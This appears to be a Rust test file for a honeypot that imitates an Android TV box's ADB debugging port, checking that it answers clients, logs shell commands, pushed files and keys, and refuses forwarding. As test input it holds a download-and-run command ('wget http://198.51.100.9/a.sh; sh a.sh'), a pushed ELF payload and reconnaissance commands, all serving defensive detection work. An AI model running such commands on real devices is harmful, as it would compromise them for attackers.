//! What a box says to those who come over its debugging port.

use super::{
    message::{AUTH, CLSE, CNXN, Message, Messages, OKAY, OPEN, WRTE, write},
    *,
};
use crate::{
    Flow,
    drive::{self, Heard, said},
};
use honeymesh_types::Signs;
use proptest::prelude::*;

fn bridge() -> Adb {
    Adb::of(&Persona::of([7; 32]))
}

fn message(command: u32, first: u32, second: u32, body: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    write(command, first, second, body, &mut bytes);
    bytes
}

fn hello() -> Vec<u8> {
    message(CNXN, 0x0100_0001, 0x0010_0000, b"host::features=shell_v2,cmd")
}

fn talk(parts: &[Vec<u8>]) -> Heard {
    drive::whole(&mut bridge().session(7), &[hello(), parts.concat()].concat())
}

fn answers(heard: &Heard) -> Vec<Message> {
    let mut messages = Messages::default();
    heard.answer.iter().filter_map(|byte| messages.push(*byte).unwrap()).collect()
}

fn printed(heard: &Heard) -> String {
    answers(heard).iter().filter(|one| one.command == WRTE).map(|one| said(&one.body)).collect()
}

#[test]
fn a_client_hears_what_the_box_is() {
    let heard = talk(&[]);
    let banner = "device::ro.product.name=p201;ro.product.model=MXQ Pro 4K;ro.product.device=p201;\0";
    let hello = &answers(&heard)[0];
    assert_eq!((hello.command, hello.first, hello.second, said(&hello.body).as_str()), (CNXN, 0x0100_0000, 4_096, banner));
    assert_eq!((heard.flow, heard.findings.fields["client"].as_str()), (Flow::Telling, "host::features=shell_v2,cmd"));
    assert!(heard.findings.signs.is_empty());
    let own = bridge().named("; X96").unwrap();
    assert_eq!((own.product.as_str(), own.model.as_str()), ("p201", "X96"));
    assert_ne!(bridge().serial, Adb::of(&Persona::of([8; 32])).serial);
}

#[test]
fn a_command_is_hostile_answered_and_its_stream_closed_once_that_arrived() {
    let heard = talk(&[message(OPEN, 9, 0, b"shell:getprop ro.product.model\0"), message(OKAY, 9, 1, b"")]);
    let commands: Vec<u32> = answers(&heard).iter().map(|one| one.command).collect();
    assert_eq!(commands, [CNXN, OKAY, WRTE, CLSE]);
    assert_eq!(printed(&heard), "MXQ Pro 4K\r\n");
    assert_eq!((heard.findings.signs, heard.findings.fields["command"].as_str()), (Signs::RULE, "getprop ro.product.model"));
    let silent = talk(&[message(OPEN, 9, 0, b"shell:cd /data/local/tmp; wget http://198.51.100.9/a.sh; sh a.sh\0")]);
    assert_eq!(answers(&silent).last().map(|one| (one.command, one.first, one.second)), Some((CLSE, 1, 9)));
}

#[test]
fn a_prompt_echoes_and_takes_lines_down() {
    let typed = [b"i".as_slice(), b"x\x7fd\r", b"curl\r", b"exit\r"].map(|keys| message(WRTE, 9, 1, keys));
    let heard = talk(&[message(OPEN, 9, 0, b"shell:\0"), typed.concat()]);
    let prompt = "root@p201:/ # ";
    let curl = "curl\r\n/system/bin/sh: curl: not found\r\n";
    let shown = alloc::format!("{prompt}ix\u{8} \u{8}d\r\nuid=0(root) gid=0(root)\r\n{prompt}{curl}{prompt}exit\r\n");
    assert_eq!(printed(&heard), shown);
    let commands: Vec<&str> =
        heard.reports.iter().filter_map(|(found, _)| found.fields.get("command")).map(String::as_str).collect();
    assert_eq!(commands, ["id", "curl", "exit"]);
    assert_eq!(answers(&heard).last().map(|one| one.command), Some(CLSE));
}

#[test]
fn a_pushed_file_is_told_with_its_path() {
    let file = b"SEND\x1d\0\0\0/data/local/tmp/ufo.apk,33206DATA\x04\0\0\0\x7fELFDONE\0\0\0\0";
    let heard = talk(&[message(OPEN, 5, 0, b"sync:\0"), message(WRTE, 5, 1, file), message(WRTE, 5, 1, b"QUIT\0\0\0\0")]);
    let pushed = heard.reports.iter().find(|(found, _)| found.fields.contains_key("file_bytes")).unwrap();
    assert_eq!((pushed.0.fields["path"].as_str(), pushed.0.fields["file_bytes"].as_str()), ("/data/local/tmp/ufo.apk", "4"));
    assert!(pushed.1.windows(4).any(|part| part == b"\x7fELF") && printed(&heard).contains("OKAY"));
    let half = talk(&[message(OPEN, 5, 0, b"sync:\0"), message(WRTE, 5, 1, &file[..file.len() - 8])]);
    assert_eq!(half.findings.fields["file_bytes"], "4", "also if it was not finished");
}

#[test]
fn nobody_is_passed_on_and_streams_are_counted() {
    for service in [&b"tcp:80:198.51.100.9\0"[..], b"jdwp:1\0", b"reverse:forward:tcp:1;tcp:2\0", b"host:version\0"] {
        let heard = talk(&[message(OPEN, 4, 0, service)]);
        assert_eq!(
            answers(&heard)[1..].iter().map(|one| (one.command, one.second)).collect::<Vec<_>>(),
            [(CLSE, 4)],
            "{service:?}"
        );
    }
    let many: Vec<Vec<u8>> = (1..12).map(|id| message(OPEN, id, 0, b"shell:\0")).collect();
    assert_eq!(answers(&talk(&many)).iter().filter(|one| one.command == CLSE).count(), 3);
}

#[test]
fn a_key_is_asked_for_and_taken_down() {
    let bytes =
        [hello(), message(AUTH, 2, 0, &[7; 256]), message(AUTH, 3, 0, b"QAAAAKey= user@bot\0"), message(OPEN, 1, 0, b"shell:\0")];
    let heard = drive::whole(&mut bridge().letting_in(false).session(7), &bytes.concat());
    let tokens = answers(&heard);
    assert!(tokens.len() == 2 && tokens.iter().all(|one| (one.command, one.first, one.body.len()) == (AUTH, 1, 20)));
    assert_ne!(tokens[0].body, tokens[1].body);
    assert_eq!((heard.findings.signs, heard.findings.fields["public_key"].as_str()), (Signs::CREDENTIALS, "QAAAAKey= user@bot"));
}

#[test]
fn what_is_no_bridge_is_left() {
    let heard = drive::whole(&mut bridge().session(7), b"GET / HTTP/1.0\r\nHost: 192.0.2.1\r\n\r\n");
    assert_eq!((heard.flow, heard.findings.signs, heard.answer.len()), (Flow::Close, Signs::MALFORMED, 0));
}

fn chat() -> impl Strategy<Value = Vec<u8>> {
    let body = prop_oneof![
        Just(b"shell:id;ps;cat /proc/cpuinfo\0".to_vec()),
        Just(b"shell:\0".to_vec()),
        Just(b"sync:\0".to_vec()),
        Just(b"SEND\x03\0\0\0a,1DATA\x02\0\0\0abDONE\0\0\0\0".to_vec()),
        Just(b"STAT\x01\0\0\0/".repeat(300)),
        Just(b"ps\r".repeat(1_000)),
        proptest::collection::vec(any::<u8>(), 0..20),
    ];
    let command = proptest::sample::select(Vec::from([CNXN, AUTH, OPEN, OKAY, CLSE, WRTE]));
    let one =
        (command, 0_u32..4, 0_u32..4, body).prop_map(|(command, first, second, body)| message(command, first, second, &body));
    (any::<bool>(), proptest::collection::vec(one, 0..20))
        .prop_map(|(greets, messages)| [if greets { hello() } else { Vec::new() }, messages.concat()].concat())
}

proptest! {
    #[test]
    fn no_bytes_break_it_and_packets_do_not_matter(bytes in prop_oneof![drive::noise(), chat()], cuts in drive::cuts()) {
        drive::law(|| bridge().session(7), &bytes, &cuts)?;
        drive::law(|| bridge().letting_in(false).session(7), &bytes, &cuts)?;
    }
}
